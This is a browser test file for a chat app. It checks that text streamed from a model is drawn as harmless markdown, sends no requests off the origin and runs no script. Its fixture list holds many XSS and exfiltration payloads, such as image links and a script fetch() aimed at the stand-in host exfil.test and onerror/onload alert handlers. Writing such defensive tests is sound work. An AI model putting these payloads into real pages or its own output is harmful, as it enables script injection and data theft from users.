"""T07: what a model writes is text, whatever it looks like: nothing of it is clicked, run or fetched."""

import json
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect
from tests.support.api import PASSWORD, serving
from tests.support.browser import ask, needs_chromium, opened
from tests.support.house import House
from tests.support.scripted_model import Pause, ScriptedModel, Step

from witness.models.base import Finish, Text

FULL = pytest.mark.full
SHARED = Path("../shared/injections.jsonl").resolve()

OURS = (
    "![x](https://exfil.test/a.png)",
    "![x][1]\n\n[1]: https://exfil.test/a.png",
    "[details](https://exfil.test/?d=1 \"title\")",
    "[1]: https://exfil.test/\n\n[details][1] and [1]",
    "<https://exfil.test/> https://exfil.test/ www.exfil.test me@exfil.test",
    "<img src=https://exfil.test/x onerror=alert(1)>",
    "<a href=\"https://exfil.test/\" ping=\"https://exfil.test/\">x</a><base href=\"https://exfil.test/\">",
    "<svg onload=alert(1)><image href=\"https://exfil.test/x\"/><use href=\"https://exfil.test/x#y\"/></svg>",
    "<style>@import url(https://exfil.test/x); body{background:url(https://exfil.test/y)}</style>",
    "<p style=\"background:url(https://exfil.test/x)\">x</p>",
    "<iframe src=https://exfil.test/></iframe><object data=https://exfil.test/></object><embed src=//exfil.test/>",
    "<link rel=prefetch href=https://exfil.test/><meta http-equiv=refresh content=\"0;url=https://exfil.test/\">",
    "<script>fetch('https://exfil.test/')</script><form action=https://exfil.test/><button>x</button></form>",
    "<video src=https://exfil.test/x autoplay poster=https://exfil.test/p></video><audio src=//exfil.test/x autoplay>",
    "[x](data:text/html,<script>alert(1)</script>) [y](javascript:alert(1)) [z](vbscript:alert(1))",
    "![](/api/media/proxy?url=https://exfil.test/) [in](/api/logout)",
    "```mermaid\ngraph TD; A[<img src=https://exfil.test/x>] --> B\nclick A \"https://exfil.test/\"\n```",
    "$$\\href{https://exfil.test/}{x}$$ \\url{https://exfil.test/}",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "- <details open ontoggle=alert(1)>\n\n> <img/src=//exfil.test/x>",
    "| <b onclick=alert(1)>a</b> |\n|---|\n| ![](//exfil.test/x) |",
    "\u202e<img src=https://exfil.test/x>\u2066 &lt;img src=https://exfil.test/x&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<img src=https://exfil.test/x>` ``[x](https://exfil.test/)``",
)  # fmt: skip

ALLOWED = {
    "P", "BR", "HR", "STRONG", "EM", "DEL", "CODE", "PRE", "BLOCKQUOTE", "UL", "OL", "LI", "H3", "H4", "H5", "H6",
    "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "DIV",
}  # fmt: skip

FOUND = """(answer) => [...answer.querySelectorAll('*')].map((each) => [
  each.tagName, ...each.getAttributeNames().filter((name) => !['align', 'start', 'class', 'tabindex'].includes(name)),
])"""


def payloads() -> list[str]:
    rows = SHARED.read_text("utf-8").splitlines() if SHARED.exists() else []
    return [json.loads(row)["payload"] for row in rows] + list(OURS)


def in_halves(text: str, cut: int) -> list[Step]:
    return [Text(text[:cut]), Pause(0.04), Text(text[cut:]), Finish("stop")]


@pytest.mark.parametrize("share", [1 / 2, pytest.param(1 / 3, marks=FULL), pytest.param(4 / 5, marks=FULL)])
@needs_chromium[0]
@pytest.mark.timeout(180)
def test_nothing_of_a_models_text_leaves_or_runs(browser: Browser, house: House, share: float) -> None:
    """No request leaves the origin and no dialog opens, which `opened` checks for every page."""
    texts = payloads()
    model = ScriptedModel([in_halves(text, int(len(text) * share)) for text in texts])
    with serving(house, model) as api, opened(browser, api.url, "owner", PASSWORD) as page:
        for text in texts:
            answer = ask(page, "Tell me.").locator(".markdown")
            for tag, *attributes in answer.evaluate(FOUND):
                assert tag in ALLOWED, text
                assert attributes == [], text
        page.reload()
        expect(page.locator(".turn")).to_have_count(len(texts))
        assert page.locator(".markdown :is(a, img, svg, script, style, iframe, form, input, button)").count() == 0


EVERY_CUT = f"""async (text) => {{
  const {{ render }} = await import('preact');
  const {{ html }} = await import('/js/html.js');
  const {{ growingText }} = await import('/js/growingText.js');
  const {{ Markdown }} = await import('/js/components/Markdown.js');
  const at = document.body.appendChild(document.createElement('div'));
  const cuts = Array.from({{ length: text.length + 1 }}, (_, cut) => cut);
  const grown = cuts.map((cut) => growingText(text.slice(0, cut)));
  render(html`<div>${{grown.map((each) => html`<${{Markdown}} text=${{each}} />`)}}</div>`, at);
  const found = {FOUND};
  const first = found(at);
  for (const cut of cuts) {{
    grown[cut].append(text.slice(cut));
    grown[cut].end();
  }}
  const all = [...first, ...found(at)].map((each) => each.join(' '));
  const links = [...at.querySelectorAll('.markdown')].map((each) => each.textContent.split('//').length - 1);
  await new Promise((done) => setTimeout(done, 100));
  at.remove();
  return {{ found: [...new Set(all)], links: [...new Set(links)] }};
}}"""


@pytest.mark.parametrize("step", [7, pytest.param(1, marks=FULL)])
@needs_chromium[0]
@pytest.mark.timeout(600)
def test_however_a_text_is_cut_nothing_of_it_leaves_or_runs(browser: Browser, house: House, step: int) -> None:
    """Each text in two pieces, cut at every place (at every one of each 7th text where there is less time); both what
    is drawn of the first piece and of both, in the page itself and under its policy."""
    texts = payloads()[::step]
    with serving(house, ScriptedModel([])) as api, opened(browser, api.url, "owner", PASSWORD) as page:
        for text in texts:
            drawn = page.evaluate(EVERY_CUT, text)
            assert {*drawn["found"]} <= ALLOWED, text
            assert drawn["links"] == [text.count("//")], text  # they are there to be read


@needs_chromium[0]
def test_the_page_is_served_under_a_policy_that_lets_nothing_in(browser: Browser, house: House) -> None:
    with serving(house, ScriptedModel([])) as api, opened(browser, api.url, None, "") as page:
        reply = page.request.get("/")
        policy = reply.headers["content-security-policy"]
        assert "unsafe" not in policy
        assert "default-src 'none'" in policy
        expect(page.get_by_role("button", name="Sign in")).to_be_visible()
